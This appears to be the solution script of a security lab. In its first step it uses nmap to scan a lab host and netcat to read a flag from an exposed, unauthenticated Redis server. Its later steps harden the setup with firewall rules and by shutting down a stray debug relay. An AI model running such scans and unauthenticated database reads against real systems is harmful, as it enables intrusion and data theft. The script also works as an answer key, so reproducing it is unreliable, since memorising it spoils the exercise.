#!/bin/sh
# The solution: solve.sh [INSTANCE], from the folder of the lab. It does what a student would.
set -eu
here=$(dirname "$0") lab=$(dirname "$0")/.. instance=${1:-default}

on() {
  labctl exec --instance "$instance" "$lab" "$@"
}

# 1: the agency's thousand ports are open, so look at all of them. Two answer: the shop of next month, and a database that
# has no business there. Redis takes plain lines, so netcat is client enough.
on attacker -- sh -ec '
  for port in $(nmap -n -Pn --max-retries 2 -p 8000-8999 --open -oG - 198.51.100.2 | grep -o "[0-9]*/open" | cut -d/ -f1); do
    printf "GET customer:1\r\nQUIT\r\n" | timeout 10 nc 198.51.100.2 "$port" | grep -ao "LAB{[a-z0-9]*}" >/root/customer.txt && break
  done
  cat /root/customer.txt'

# 2, 4, 5 and 6: the rules that the table of the README asks for, loaded now and at every start
on fw -- sh -ec 'cat >/etc/nftables.conf; nft -c -f /etc/nftables.conf' <"$here/nftables.conf"
on fw -- systemctl enable nftables
on fw -- systemctl restart nftables

# 3: a closed port in the firewall is no reason to leave the relay running: whoever gets into the DMZ still reaches it.
# The service has its socket from systemd and keeps it when systemd's own is closed.
on web -- sh -ec '
  systemctl disable --now debug-relay.socket
  systemctl stop debug-relay.service'
